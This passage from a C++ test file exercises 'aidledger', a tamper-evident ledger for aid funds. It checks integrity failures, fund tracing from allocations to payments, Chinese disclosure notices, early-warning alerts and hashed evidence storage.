  EXPECT_EQ(NextAppend(), "appended seq=7");
}

TEST_F(CliIndexTamperTest, AForgedReversalIndexEntryDoesNotBlockAReversal) {
  ASSERT_THAT(testing::RocksDbPut(db_, "reversals", "a-1", internal::EncodeSequence(6)), IsOk());
  RunResult verify = Run({"verify"});
  EXPECT_EQ(verify.exit_code, 4);
  RunResult reverse = Run({"reverse", "--target", "a-1", "--reason", "x", "--date", "2021-06-02"});
  EXPECT_EQ(reverse.exit_code, 0) << reverse.err;
  EXPECT_THAT(reverse.out, ::testing::StartsWith("appended seq=7 "));
  // The reversal wrote the true entry over the forged one.
  EXPECT_EQ(Run({"verify"}).exit_code, 0);
}

TEST_F(CliIndexTamperTest, AnEventIdIndexEntryNamingAnotherEventIsCaughtWhenRead) {
  ASSERT_THAT(testing::RocksDbPut(db_, "event_ids", "a-1", internal::EncodeSequence(5)), IsOk());
  RunResult reverse = Run({"reverse", "--target", "a-1", "--reason", "x", "--date", "2021-06-02"});
  EXPECT_EQ(reverse.exit_code, 4) << reverse.out;
  EXPECT_THAT(reverse.err,
              ::testing::HasSubstr("the event_id index names event 5 for a-1, which the log does not hold"));
  EXPECT_EQ(NextAppend(), "appended seq=7");
}

TEST_F(CliTest, VerifyExitsFourOnATamperedLedger) {
  AddBasics();
  {
    absl::StatusOr<std::unique_ptr<internal::Store>> store = internal::Store::Open(db_, {});
    ASSERT_TRUE(store.ok());
    absl::StatusOr<std::optional<std::string>> value =
        (*store)->Get(internal::Family::kEvents, internal::EncodeSequence(2));
    ASSERT_TRUE(value.ok() && value->has_value());
    std::string record = **value;
    const size_t name = record.find("青岛市");
    ASSERT_NE(name, std::string::npos);
    record.replace(name, std::string("青岛市").size(), "烟台市");
    internal::Batch batch = (*store)->NewBatch();
    batch.Put(internal::Family::kEvents, internal::EncodeSequence(2), record);
    ASSERT_TRUE((*store)->Write(&batch, true).ok());
  }
  RunResult result = Run({"verify"});
  EXPECT_EQ(result.exit_code, 4);
  EXPECT_EQ(result.err, "aidledger: integrity failure: event 2: its stored hash does not match "
                        "its stored bytes (rewritten?)\n");
  // No read path turns the damaged log into plausible numbers.
  for (std::vector<std::string> args : std::vector<std::vector<std::string>>{
           {"balances"}, {"helpers", "--format", "json"}, {"log"}, {"digest"},
           {"sale", "--region", "621100", "--amount", "1"}}) {
    RunResult read = Run(args);
    EXPECT_EQ(read.exit_code, 4) << args[0] << ": " << read.err;
    EXPECT_EQ(read.out, "") << args[0];
  }
  // A stream stops at the damaged event: what came before it was good.
  RunResult replay = Run({"replay"});
  EXPECT_EQ(replay.exit_code, 4);
  EXPECT_THAT(replay.out, ::testing::HasSubstr("\"sequence\":\"1\""));
  EXPECT_THAT(replay.out, ::testing::Not(::testing::HasSubstr("\"sequence\":\"2\"")));
}


// Issue 25: a trace follows each allocation to the projects and payments
// it paid, first in first out (state/fund_flow.h); a reversal in the view
// takes its payment out, and each node names the event that proves it.
class TraceTest : public CliTest {
 protected:
  void SetUp() override {
    AddBasics();
    MustRun({"region", "add", "--code", "621102", "--name", "安定区", "--parent", "621100",
             "--date", "2016-01-01"});
    for (const char* project : {"P-1", "P-2"}) {
      MustRun({"project", "add", "--project", project, "--region", "621102", "--name",
               absl::StrCat("项目", project), "--category", "industry", "--budget", "500",
               "--date", "2021-06-01"});
    }
    MustRun({"project", "stage", "--project", "P-1", "--stage", "started", "--date", "2022-01-02"});
    MustRun({"allocate", "--helper", "370200", "--recipient", "621102", "--amount", "300",
             "--date", "2022-01-05", "--event-id", "a-2"});
    MustRun({"allocate", "--helper", "370200", "--recipient", "621102", "--project", "P-1",
             "--amount", "100", "--document-number", "青财预指〔2022〕1号", "--date", "2022-01-10",
             "--event-id", "a-1"});
    MustRun({"allocate", "--helper", "370200", "--recipient", "621102", "--project", "P-2",
             "--amount", "40", "--date", "2022-01-12", "--event-id", "a-3"});
    MustRun({"disburse", "--project", "P-1", "--amount", "80", "--payee", "安定区农投公司",
             "--contract", "HT-1", "--date", "2022-02-01", "--event-id", "d-1"});
    MustRun({"disburse", "--project", "P-1", "--amount", "50", "--date", "2022-03-01",
             "--event-id", "d-2"});
    MustRun({"disburse", "--project", "P-1", "--amount", "10", "--date", "2022-04-01",
             "--event-id", "d-3"});
    MustRun({"disburse", "--project", "P-2", "--amount", "30", "--date", "2022-04-02",
             "--event-id", "d-4"});
    MustRun({"reverse", "--target", "d-3", "--reason", "重复支付", "--date", "2022-05-01"});
  }

  v1::TraceReport Trace(std::vector<std::string> args) {
    args.insert(args.begin(), {"--format", "json", "trace"});
    RunResult result = Run(args);
    EXPECT_EQ(result.exit_code, 0) << result.err;
    v1::TraceReport report;
    EXPECT_TRUE(google::protobuf::util::JsonStringToMessage(result.out, &report).ok()) << result.out;
    return report;
  }

  // "d-2 paid by a-1 2000, a-2 3000": a disbursement's matches.
  static std::string Matches(const v1::TraceNode& node) {
    std::vector<std::string> parts;
    for (const v1::TraceMatch& m : node.matched()) {
      parts.push_back(absl::StrCat(m.allocation_event_id(), " ", m.amount_fen()));
    }
    return absl::StrCat(node.id(), " paid by ", absl::StrJoin(parts, ", "));
  }
};

TEST_F(TraceTest, AProjectsTraceShowsWhichAllocationPaidEachPayment) {
  const v1::TraceReport report = Trace({"--project", "P-1"});
  ASSERT_EQ(report.nodes_size(), 1);
  const v1::TraceNode& helper = report.nodes(0);
  EXPECT_EQ(helper.kind(), "helper");
  EXPECT_EQ(helper.id(), "370200");
  EXPECT_EQ(helper.name(), "青岛市");
  EXPECT_EQ(helper.amount_fen(), 40000);   // a-2 and a-1; a-3 neither names nor paid P-1
  EXPECT_EQ(helper.unspent_fen(), 27000);  // a-2's 300 less d-2's 30 (d-3 was reversed)
  ASSERT_EQ(helper.children_size(), 2);
  const v1::TraceNode& a2 = helper.children(0);
  const v1::TraceNode& a1 = helper.children(1);
  EXPECT_EQ(a2.id(), "a-2");
  EXPECT_EQ(a1.id(), "a-1");
  EXPECT_EQ(a1.document_number(), "青财预指〔2022〕1号");
  EXPECT_EQ(a1.amount_fen(), 10000);
  EXPECT_EQ(a1.unspent_fen(), 0);
  EXPECT_EQ(a1.date(), "2022-01-10");
  const v1::TraceNode& region = a1.children(0);
  EXPECT_EQ(region.kind(), "region");
  EXPECT_EQ(region.id(), "621102");
  const v1::TraceNode& project = region.children(0);
  EXPECT_EQ(project.kind(), "project");
  EXPECT_EQ(project.stage(), "started");
  EXPECT_EQ(project.budget_fen(), 50000);
  ASSERT_EQ(project.children_size(), 2);
  EXPECT_EQ(Matches(project.children(0)), "d-1 paid by a-1 8000");
  EXPECT_EQ(project.children(0).name(), "安定区农投公司");
  EXPECT_EQ(project.children(0).contract_number(), "HT-1");
  EXPECT_EQ(Matches(project.children(1)), "d-2 paid by a-1 2000, a-2 3000");
  // a-2, the region's general money, reached P-1 only through d-2.
  const v1::TraceNode& general = a2.children(0).children(0);
  EXPECT_EQ(general.id(), "P-1");
  EXPECT_EQ(general.amount_fen(), 3000);
  ASSERT_EQ(general.children_size(), 1);
  EXPECT_EQ(general.children(0).id(), "d-2");
  // Every node names its event: seq and hash as the log holds them.
  RunResult log = Run({"--format", "jsonl", "replay"});
  ASSERT_EQ(log.exit_code, 0) << log.err;
  EXPECT_THAT(log.out, ::testing::HasSubstr(project.children(0).hash()));
  EXPECT_NE(project.seq(), 0u);
  // The same tree as a printable page.
  RunResult html = Run({"--format", "html", "trace", "--project", "P-1"});
  ASSERT_EQ(html.exit_code, 0) << html.err;
  EXPECT_THAT(html.out, ::testing::HasSubstr(
      "<li><span class=\"disbursement\">disbursement d-1 安定区农投公司 2022-02-01 80.00"));
  EXPECT_THAT(html.out, ::testing::Not(::testing::HasSubstr("http")));
}

TEST_F(TraceTest, AnAllocationAsOfAnEarlierDateStillPaidWhatWasReversedLater) {
  const v1::TraceReport before = Trace({"--allocation", "a-2", "--as-of", "2022-04-15"});
  ASSERT_EQ(before.nodes_size(), 1);
  ASSERT_EQ(before.nodes(0).children_size(), 1);
  const v1::TraceNode& a2 = before.nodes(0).children(0);
  EXPECT_EQ(a2.unspent_fen(), 26000);  // d-2's 30 and d-3's 10
  const v1::TraceNode& project = a2.children(0).children(0);
  EXPECT_EQ(project.amount_fen(), 4000);
  ASSERT_EQ(project.children_size(), 2);
  EXPECT_EQ(Matches(project.children(1)), "d-3 paid by a-2 1000");
  // At the head the reversal took d-3 back: its 10 yuan is unspent again.
  const v1::TraceReport now = Trace({"--allocation", "a-2"});
  EXPECT_EQ(now.nodes(0).children(0).unspent_fen(), 27000);
  // A helper's trace holds all three allocations; P-2's money paid P-2.
  const v1::TraceReport helper = Trace({"--helper", "370000"});
  ASSERT_EQ(helper.nodes_size(), 1);
  EXPECT_EQ(helper.nodes(0).children_size(), 3);
  EXPECT_EQ(helper.nodes(0).amount_fen(), 44000);
  EXPECT_EQ(helper.nodes(0).unspent_fen(), 27000 + 1000);
  RunResult table = Run({"trace", "--project", "P-2", "--unit", "wan"});
  ASSERT_EQ(table.exit_code, 0) << table.err;
  EXPECT_THAT(table.out, ::testing::HasSubstr("d-4"));
  EXPECT_THAT(table.out, ::testing::HasSubstr("a-3 0.00"));  // 30 yuan in 万元
}

// Issue 25: a public notice states what disclosure rules ask for, with
// figures computed by hand and the digest they come from.
TEST_F(TraceTest, ANoticeDisclosesAProjectOrAnAllocationAndTheDigestBehindIt) {
  RunResult project = Run({"notice", "--project", "P-1", "--hotline", "0932-12317", "--from",
                           "2022-06-01"});
  ASSERT_EQ(project.exit_code, 0) << project.err;
  for (const char* line : {
           "项目P-1项目公示\n",
           "项目编号：P-1\n",
           "实施地点：甘肃省定西市安定区\n",
           "建设内容：产业发展类：项目P-1\n",
           "实施期限：（未登记）\n",
           "项目预算：500.00 元（伍佰元整）\n",
           "按项目下达资金：100.00 元（壹佰元整）\n",
           "已支付资金：130.00 元（壹佰叁拾元整）\n",  // d-3 was reversed
           "资金来源：青岛市 青财预指〔2022〕1号：100.00 元；青岛市 a-2：30.00 元\n",
           "预期目标：（未登记）\n",
           "实施进展：开工（2022-01-02）\n",
           "公示期：自 2022-06-01 至 2022-06-10（共 10 天）\n",
           "监督电话：0932-12317\n",
       }) {
    EXPECT_THAT(project.out, ::testing::HasSubstr(line));
  }
  RunResult digest = Run({"digest"});
  ASSERT_EQ(digest.exit_code, 0) << digest.err;
  const std::string root = digest.out.substr(digest.out.find("\"merkle_root\":\"") + 15, 64);
  EXPECT_THAT(project.out, ::testing::HasSubstr(absl::StrCat("Merkle 根 ", root)));

  RunResult funds = Run({"notice", "--allocation", "a-2", "--hotline", "12317", "--days", "15",
                         "--from", "2022-06-01", "--format", "text"});
  ASSERT_EQ(funds.exit_code, 0) << funds.err;
  for (const char* line : {
           "资金来源：青岛市 财政资金\n",
           "指标文件：（未登记）\n",
           "资金金额：300.00 元（叁佰元整）\n",
           "资金用途：安定区统筹安排帮扶项目\n",
           "分配结果：项目P-1（P-1）30.00 元；尚未支出 270.00 元\n",
           "公示期：自 2022-06-01 至 2022-06-15（共 15 天）\n",
       }) {
    EXPECT_THAT(funds.out, ::testing::HasSubstr(line));
  }
  RunResult html = Run({"--format", "html", "notice", "--project", "P-1", "--hotline", "12317"});
  ASSERT_EQ(html.exit_code, 0) << html.err;
  EXPECT_THAT(html.out, ::testing::HasSubstr("<th>项目名称</th><td>项目P-1</td>"));
  EXPECT_THAT(html.out, ::testing::Not(::testing::HasSubstr("http")));  // no external assets

  EXPECT_EQ(Run({"notice", "--project", "P-1"}).exit_code, 2);  // no hotline
  EXPECT_EQ(Run({"notice", "--project", "P-1", "--hotline", "1", "--days", "9"}).exit_code, 2);
  EXPECT_EQ(Run({"notice", "--project", "NOPE", "--hotline", "1"}).exit_code, 2);
  EXPECT_EQ(Run({"notice", "--hotline", "1"}).exit_code, 2);
}

TEST_F(TraceTest, ATraceNamesExactlyOneThing) {
  EXPECT_EQ(Run({"trace"}).exit_code, 2);
  EXPECT_EQ(Run({"trace", "--project", "P-1", "--helper", "370200"}).exit_code, 2);
  RunResult missing = Run({"trace", "--allocation", "d-1"});
  EXPECT_EQ(missing.exit_code, 2);
  EXPECT_THAT(missing.err, ::testing::HasSubstr("--allocation d-1: no allocation in the view"));
}


// Issue 25: each early-warning rule, on a ledger where every figure is
// known by hand (as of 2022-12-31, idle after 200 days, a payee alerts in
// more than 2 regions).
TEST_F(CliTest, AlertsNameEachRuleBrokenAndTheEventsBehindIt) {
  AddBasics();
  for (const auto& [code, name] : std::vector<std::pair<std::string, std::string>>{
           {"621102", "安定区"}, {"621124", "临洮县"}, {"621125", "渭源县"}}) {
    MustRun({"region", "add", "--code", code, "--name", name, "--parent", "621100", "--date",
             "2016-01-01"});
  }
  MustRun({"project", "add", "--project", "P-1", "--region", "621102", "--name", "冷库",
           "--category", "industry", "--budget", "100", "--planned-start", "2022-01-01",
           "--planned-end", "2022-06-30", "--date", "2021-12-01"});
  MustRun({"project", "add", "--project", "P-2", "--region", "621102", "--name", "道路",
           "--category", "infrastructure", "--planned-end", "2022-09-30", "--date", "2021-12-01"});
  MustRun({"project", "add", "--project", "P-4", "--region", "621124", "--name", "学校",
           "--category", "education", "--date", "2021-12-01"});
  MustRun({"project", "add", "--project", "P-5", "--region", "621125", "--name", "医院",
           "--category", "health", "--date", "2021-12-01"});
  const auto allocate = [this](const char* id, const char* recipient, const char* project,
                               const char* amount, const char* date) {
    std::vector<std::string> args = {"allocate", "--helper", "370200", "--recipient", recipient,
                                     "--amount", amount, "--date", date, "--event-id", id};
    if (*project != 0) args.insert(args.end(), {"--project", project});
    MustRun(args);
  };
  allocate("a-1", "621102", "P-1", "150", "2022-01-05");
  allocate("a-2", "621102", "", "1000", "2022-01-06");
  allocate("a-3", "621124", "", "50", "2022-01-07");
  allocate("a-4", "621125", "", "300000", "2022-01-08");
  MustRun({"project", "stage", "--project", "P-1", "--stage", "started", "--date", "2022-02-01"});
  MustRun({"project", "stage", "--project", "P-1", "--stage", "completed", "--date", "2022-05-01"});
  MustRun({"project", "stage", "--project", "P-1", "--stage", "accepted", "--date", "2022-06-01"});
  allocate("a-late", "621102", "P-1", "20", "2022-07-01");
  std::ofstream(dir_.Sub("payments.csv"))
      << "type,event_id,effective_date,project_id,amount,payee,contract_number,evidence_files\n"
      << "disbursement,d-1,2022-03-01,P-1,120,某建筑公司,HT-1,invoice:" << std::string(64, 'e')
      << ":1024:发票.pdf\n"
      << "disbursement,d-2,2022-03-02,P-4,10,某建筑公司,,\n"
      << "disbursement,d-3,2022-03-03,P-5,250000,某建筑公司,,\n";
  MustRun({"import", dir_.Sub("payments.csv")});

  RunResult json = Run({"--format", "json", "alerts", "--as-of", "2022-12-31", "--idle-days",
                        "200", "--payee-counties", "2"});
  ASSERT_EQ(json.exit_code, 0) << json.err;
  v1::AlertsReport report;
  ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(json.out, &report).ok()) << json.out;
  std::vector<std::string> alerts;
  for (const v1::Alert& alert : report.alerts()) {
    alerts.push_back(absl::StrCat(alert.rule(), " ", alert.subject(), " ", alert.amount_fen(), " ",
                                  alert.seqs_size()));
  }
  EXPECT_EQ(alerts, (std::vector<std::string>{
                        "idle_funds a-1 3000 1",       // 150 less d-1's 120, 360 days
                        "idle_funds a-2 100000 1",     // untouched
                        "idle_funds a-3 4000 1",       // 50 less d-2's 10
                        "idle_funds a-4 5000000 1",    // 300,000 less d-3's 250,000
                        "project_overdue P-2 0 1",     // planned to end 2022-09-30, no stage
                        "over_budget P-1 2000 2",      // 120 against 100: its registration and d-1
                        "no_evidence d-2 1000 1",
                        "no_evidence d-3 25000000 1",
                        "no_contract d-3 25000000 1",  // 250,000 above 10万, no contract
                        "payee_many_counties 某建筑公司 25013000 3",
                        "allocation_after_acceptance a-late 2000 2",
                    }));
  EXPECT_EQ(report.as_of_date(), "2022-12-31");
  EXPECT_EQ(report.thresholds().idle_days(), 200);
  // a-late, 183 days old, is idle under the default of 180 days.
  RunResult idle = Run({"alerts", "--as-of", "2022-12-31", "--rule", "idle_funds"});
  ASSERT_EQ(idle.exit_code, 0) << idle.err;
  EXPECT_THAT(idle.out, ::testing::HasSubstr("a-late"));
  EXPECT_THAT(idle.out, ::testing::HasSubstr("measured on 2022-12-31; 5 alerts"));
  // Before P-1 was accepted and before its payment: neither rule fires.
  RunResult early = Run({"--format", "json", "alerts", "--as-of", "2022-02-28", "--rule",
                         "over_budget,allocation_after_acceptance"});
  ASSERT_EQ(early.exit_code, 0) << early.err;
  EXPECT_THAT(early.out, ::testing::HasSubstr("\"alerts\":[]"));
  EXPECT_EQ(Run({"alerts", "--rule", "slow_payments"}).exit_code, 2);
  EXPECT_EQ(Run({"alerts", "--idle-days", "0"}).exit_code, 2);
}

// Issue 25: evidence files are hashed and bound to an event, stored in the
// ledger's evidence store, got back checked, and verify reports what is
// missing (a warning, or exit 4 with --require-evidence) and what was altered.
class EvidenceTest : public CliTest {
 protected:
  // The trace's node of disbursement `id` under project P-1: "files/stored".
  std::string TracedEvidence(const std::string& id) {
    RunResult result = Run({"--format", "json", "trace", "--project", "P-1"});
    EXPECT_EQ(result.exit_code, 0) << result.err;
    v1::TraceReport report;
    EXPECT_TRUE(google::protobuf::util::JsonStringToMessage(result.out, &report).ok()) << result.out;
    std::vector<const v1::TraceNode*> pending;
    for (const v1::TraceNode& node : report.nodes()) pending.push_back(&node);
    for (size_t i = 0; i < pending.size() && i < 1000; ++i) {
      if (pending[i]->kind() == "disbursement" && pending[i]->id() == id) {
        return absl::StrCat(pending[i]->evidence_files(), "/", pending[i]->evidence_stored());
      }
      for (const v1::TraceNode& child : pending[i]->children()) pending.push_back(&child);
    }
    return "not traced";
  }
  // A file of `size` pseudo-random bytes (seeded), written by the test.
  std::string MakeFile(const std::string& name, size_t size, uint64_t seed) {
    std::mt19937_64 random(seed);
    std::string bytes(size, '\0');
    for (char& byte : bytes) byte = static_cast<char>(random() & 0xff);
    std::ofstream(dir_.Sub(name), std::ios::binary) << bytes;
    return bytes;
  }
};

TEST_F(EvidenceTest, FilesAreBoundStoredGotBackAndVerifiedAgainstTheirHashes) {
  const uint64_t seed = testing::TestSeed(20261203);
  AddBasics();
  MustRun({"project", "add", "--project", "P-1", "--region", "621100", "--name", "冷库",
           "--category", "industry", "--date", "2021-06-01"});
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--project", "P-1",
           "--amount", "100万", "--date", "2022-01-05"});
  // A contract of two and a half chunks, and a small invoice.
  const std::string contract = MakeFile("合同.pdf", 5 * limits::kEvidenceChunkBytes / 2, seed);
  const std::string invoice = MakeFile("invoice.txt", 1000, seed + 1);
  const std::string contract_sha = Hex(Sha256({contract}));
  const std::string invoice_sha = Hex(Sha256({invoice}));

  RunResult hashed = Run({"evidence", "add", "contract:" + dir_.Sub("合同.pdf"), dir_.Sub("invoice.txt")});
  ASSERT_EQ(hashed.exit_code, 0) << hashed.err;
  EXPECT_EQ(hashed.out, absl::StrCat("contract:", contract_sha, ":", contract.size(), ":合同.pdf\n",
                                     "other:", invoice_sha, ":1000:invoice.txt\n"));
  MustRun({"disburse", "--project", "P-1", "--amount", "30万", "--payee", "安定区农投公司",
           "--date", "2022-02-01", "--event-id", "d-1", "--evidence",
           "contract:" + dir_.Sub("合同.pdf"), "--evidence", "invoice:" + dir_.Sub("invoice.txt")});
  RunResult logged = Run({"log", "--format", "jsonl"});
  ASSERT_EQ(logged.exit_code, 0) << logged.err;
  EXPECT_THAT(logged.out, ::testing::HasSubstr(contract_sha));
  EXPECT_THAT(logged.out, ::testing::HasSubstr(invoice_sha));
  EXPECT_THAT(logged.out, ::testing::HasSubstr("合同.pdf"));

  // Named but not stored: a warning each, or exit 4 when evidence is required.
  RunResult missing = Run({"verify"});
  ASSERT_EQ(missing.exit_code, 0) << missing.err;
  EXPECT_THAT(missing.err, ::testing::HasSubstr(absl::StrCat("names evidence ", contract_sha)));
  EXPECT_THAT(missing.out, ::testing::HasSubstr("evidence: 0 stored files (0 bytes) hash to their "
                                                "names; 2 files the events name are not stored"));
  EXPECT_EQ(Run({"verify", "--require-evidence"}).exit_code, 4);
  EXPECT_EQ(TracedEvidence("d-1"), "2/0");

  RunResult stored = Run({"evidence", "add", "--store", "contract:" + dir_.Sub("合同.pdf"),
                          dir_.Sub("invoice.txt")});
  ASSERT_EQ(stored.exit_code, 0) << stored.err;
  EXPECT_THAT(stored.out, ::testing::HasSubstr(absl::StrCat(contract_sha, ":", contract.size(),
                                                            ":合同.pdf  stored\n")));
  RunResult again = Run({"evidence", "add", "--store", dir_.Sub("invoice.txt")});
  EXPECT_THAT(again.out, ::testing::HasSubstr("already stored"));
  EXPECT_EQ(TracedEvidence("d-1"), "2/2");
  RunResult verified = Run({"verify", "--require-evidence"});
  ASSERT_EQ(verified.exit_code, 0) << verified.err;
  EXPECT_THAT(verified.out,
              ::testing::HasSubstr(absl::StrCat("evidence: 2 stored files (", contract.size() + 1000,
                                                " bytes) hash to their names; 0 files")));

  // A copy of the ledger carries its evidence store along.
  RunResult copied = Run({"copy", "--from", db_, "--to", dir_.Sub("copy")});
  ASSERT_EQ(copied.exit_code, 0) << copied.err;
  EXPECT_THAT(copied.out, ::testing::HasSubstr(absl::StrCat("copied 2 evidence files (",
                                                            contract.size() + 1000, " bytes)")));
  RunResult copy_verified = RunAidledger({"--db", dir_.Sub("copy"), "verify", "--require-evidence"},
                                         dir_.path(), {});
  EXPECT_EQ(copy_verified.exit_code, 0) << copy_verified.err;

  RunResult got = Run({"evidence", "get", contract_sha, "--out", dir_.Sub("got.pdf")});
  ASSERT_EQ(got.exit_code, 0) << got.err;
  EXPECT_TRUE(testing::ReadFile(dir_.Sub("got.pdf")) == contract);
  EXPECT_EQ(Run({"evidence", "get", std::string(64, 'a'), "--out", dir_.Sub("none")}).exit_code, 2);

  // A chunk altered in the store (by someone with access to its files):
  // verify fails, and get leaves no file behind.
  std::string altered = contract.substr(limits::kEvidenceChunkBytes, limits::kEvidenceChunkBytes);
  altered[12345] ^= 1;
  ASSERT_THAT(testing::RocksDbPut(db_, "evidence",
                                  internal::EvidenceChunkKey(*HashFromHex(contract_sha), 1), altered),
              testing::IsOk());
  RunResult tampered = Run({"verify"});
  EXPECT_EQ(tampered.exit_code, 4) << tampered.out;
  EXPECT_THAT(tampered.err, ::testing::HasSubstr(absl::StrCat("evidence ", contract_sha,
                                                              " was altered in the store")));
  EXPECT_EQ(Run({"evidence", "get", contract_sha, "--out", dir_.Sub("bad.pdf")}).exit_code, 4);
  EXPECT_FALSE(std::filesystem::exists(dir_.Sub("bad.pdf")));
  EXPECT_FALSE(std::filesystem::exists(dir_.Sub("bad.pdf.part")));
}

TEST_F(EvidenceTest, AnEmptyOrUnreadableFileIsRefusedAndNothingIsAppended) {
  AddBasics();
  std::ofstream(dir_.Sub("empty.pdf")).flush();
  RunResult empty = Run({"sale", "--region", "621100", "--amount", "10", "--evidence",
                         dir_.Sub("empty.pdf")});
  EXPECT_EQ(empty.exit_code, 3) << empty.err;
  EXPECT_THAT(empty.err, ::testing::HasSubstr("an evidence file has 1.."));
  RunResult absent = Run({"sale", "--region", "621100", "--amount", "10", "--evidence",
                          "photo:" + dir_.Sub("absent.jpg")});
  EXPECT_EQ(absent.exit_code, 2) << absent.err;
  EXPECT_THAT(absent.err, ::testing::HasSubstr("cannot read"));
  RunResult log = Run({"log", "--format", "jsonl"});
  EXPECT_EQ(std::count(log.out.begin(), log.out.end(), '\n'), 5);  // AddBasics' only
}

}  // namespace
}  // namespace aidledger
